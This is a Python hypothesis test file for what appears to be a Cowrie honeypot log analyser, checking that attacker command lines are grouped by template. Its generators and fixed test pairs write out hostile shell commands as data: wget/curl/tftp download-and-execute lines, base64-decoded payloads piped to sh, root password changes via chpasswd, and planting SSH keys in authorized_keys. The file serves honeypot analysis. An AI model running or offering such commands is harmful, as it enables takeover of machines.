"""Lines that stand for others have the same plan as they."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st
from test_templates import FRAGMENTS, everything

from cowrie_sessionstats.commands import Templates, default_vocabulary
from cowrie_sessionstats.commands._canonical import SCRIPT, canonical, script_of

MAKER = Templates(default_vocabulary())

words = st.text("ABCabcxyz019!@#^&*()_+=.,?~/-:%$<`\\ ", max_size=12) | st.sampled_from(FRAGMENTS)
tails = st.lists(
    st.sampled_from(
        [*FRAGMENTS, "|passwd", "|chpasswd", " | passwd root", "|bash", "kill ", "GGDBS"]
    ),
    max_size=4,
).map("".join)
passwords = st.builds(
    'echo {}"{}{}{}"{}{}{}'.format,
    st.sampled_from(["", "-e ", "-ne ", "-x "]),
    st.sampled_from(["", "root:", "a:b:", "Root:"]),
    words,
    st.lists(words, max_size=2).map(lambda more: "".join(f"\\n{word}" for word in more)),
    st.sampled_from(["|", " | ", "||", "|&"]),
    st.sampled_from(["passwd", "chpasswd", "passwd.sh", "passwd root", "busybox passwd"]),
    tails,
)
payloads = st.builds(
    "{}{}{}{}{}".format,
    st.sampled_from(
        ["echo -ne ", "printf ", "sed ", "> ", "sh -c ", "cat <<", "A=", "busybox ", "kill "]
    ),
    st.sampled_from(["'", '"', ""]),
    st.binary(max_size=6).map(lambda raw: "".join(f"\\x{byte:02x}" for byte in raw)),
    st.sampled_from(["'", '"', "x'", "' >> .s", '" | chpasswd', "'\n"]),
    tails,
)
applets = st.builds(
    "{}{}busybox {}{}".format,
    st.sampled_from(["", "cat x; ", "cp ", "(", "sh|", "for a in b; do ", "sudo ", "echo "]),
    st.sampled_from(["", "/bin/", "./", "/opt/"]),
    st.text("ABCDXYZabc", min_size=1, max_size=8) | st.sampled_from(["kill 12", "kill -9 123"]),
    tails,
)
kills = st.builds(
    "{}kill {}{}{}".format,
    st.sampled_from(["", "/bin/busybox ", "sudo "]),
    st.sampled_from(["", "-9 ", "-s ", "%"]),
    st.integers(0, 10**12).map(str),
    tails,
)


keys = st.builds(
    "{}echo {}{} AAAA{}{}{}".format,
    st.sampled_from(["", "cd ~ && rm -rf .ssh && mkdir .ssh && ", "sudo "]),
    st.sampled_from(['"', "'", "", '-n "']),
    st.sampled_from(["ssh-rsa", "ssh-ed25519", "ssh-dss", "ssh-x", "ssh-rsa  "]),
    st.text("ABCabc019+/=_ ", max_size=40),
    st.sampled_from(["==", "", " me@host", " mdrfckr"]),
    st.sampled_from(['">>.ssh/authorized_keys', "' > x && chmod -R go= ~/.ssh && cd ~", '"', ""]),
)

decoded = st.builds(
    "{}{}{}{}{}".format,
    st.sampled_from(["echo ", "echo -n ", "sudo echo ", "echo  "]),
    st.text("ABCabc019+/=- ", min_size=14, max_size=40)
    | st.from_regex(
        r"[0-9a-f]{16,40}|[48][0-9A-Za-z]{94}|[0-9]{16,30}|[a-z/]{16,40}", fullmatch=True
    ),
    st.sampled_from(["", "=", "==", " x"]),
    st.sampled_from(["|", " | ", "||", "|&"]),
    st.tuples(st.sampled_from(["base64 -d", "base64 --decode", "base64 -di", "base64"]), tails).map(
        "".join
    ),
)

scripts = st.sampled_from(
    ["xqzkvbnw.sh", "update.sh", "bins.sh", "mips", "aaaaaa.sh", "install.sh", "x.sh", "profile.sh"]
) | st.from_regex(r"[a-z]{4,17}\.sh(\.sh|\.1|)", fullmatch=True)
addresses = st.one_of(
    st.ip_addresses(v=4).map(str), st.sampled_from(["1.2.3", "01.2.3.4", "256.1.1.1", "localhost"])
)
ways = st.sampled_from(
    [
        "{go}wget {url}; chmod 777 {script}; sh {script}; rm -rf {script}",
        "{go}tftp {address} -c get {script}; chmod 777 {script}; sh {script}",
        "tftp -g -r {script} {address} 69; ./{script} {address}; cat {address}",
        "{go}curl -O {url}|sh; /tmp/{script} {other}; rm {script}",
        "curl {url} -o {script} && chmod +x {script}; ./{script}",
        "busybox wget {url} -O - | sh", "wget {url}{url} {url} && {url}; {script}",
        "wget {url}?a={address}; mkdir {script}; cd {script}; {script} curl {url}",
        "{go}chmod 777 {script} curl {script} {script}; > {other}; {other} & ./{script}",
        "ping -c 1 {address}:80; wget {address}/{script}", "sh -c wget {url}; for {script} in a",
    ]
)  # fmt: skip
fetches = st.builds(
    lambda way, address, folder, script, go, other, tail: (
        way.format(
            url=f"http://{address}{folder}/{script}",
            address=address,
            script=script,
            go=go,
            other=other,
        )
        + tail
    ),
    ways,
    addresses,
    st.sampled_from(["", "/a/bc", "/xqzkvbnw.sh", ":8080", "/...", "/%20", "//"]),
    scripts,
    st.sampled_from(["", "cd /tmp || cd /var/run; ", "cd /etc/profile.d; ", "X=", "sudo "]),
    scripts,
    tails | st.just(""),
)


@everything
@given(passwords | payloads | applets | kills | keys | decoded | fetches)
def test_the_line_that_stands_for_another_has_its_plan(line: str) -> None:
    """All of it: template, programs, names, what comes after."""
    assert MAKER._plan(canonical(line)) == MAKER._plan(line)


@everything
@given(fetches)
def test_the_plan_of_a_fetched_script_is_that_of_another_but_for_its_name(line: str) -> None:
    """Whatever the vocabulary, the places where it stands and other names say."""
    assert MAKER._plan_kept(line) == MAKER._plan(line)


def test_the_lines_that_it_is_for() -> None:
    """They are recognized, or nothing would be gained."""
    for ours, theirs in (
        ('echo -e "a\\nZx81kkP2\\nZx81kkP2"|passwd|bash', 'echo -e "qQ7mmLw0\\nb"|passwd|bash'),
        ('echo "root:30JjhcjMlXUn"|chpasswd|bash', 'echo "root:xy9EJDM272VT"|chpasswd|bash'),
        ("echo -ne '\\x7f\\x45\\x4c\\x46' >> .s", "echo -ne '\\x01\\x00\\x02' >> .s"),
        ("cat /proc/mounts; /bin/busybox GGDBS", "cat /proc/mounts; /bin/busybox UZUCW"),
        ("echo dG91Y2ggL3RtcC94 | base64 -d|sh", "echo aWQ7dW5hbWUgLWE7dw== | base64 -d|sh"),
        ("/bin/busybox kill -9 5673", "/bin/busybox kill -9 1553"),
        ("wget http://192.0.2.1/ab/c; sh c", "wget http://198.51.100.7/c; sh c"),
        ('echo "ssh-rsa AAAAB3NzaC1yc2E+x">>.ssh/k', 'echo "ssh-rsa AAAAC3NzaC1lZDI1/">>.ssh/k'),
    ):
        assert ours != theirs
        assert canonical(ours) == canonical(theirs)
    line = "tftp 192.0.2.1 -c get xqzkvbnw.sh; sh xqzkvbnw.sh"
    assert script_of(line) == "xqzkvbnw.sh"
    assert script_of(line.replace("xqzkvbnw.sh", SCRIPT)) is None
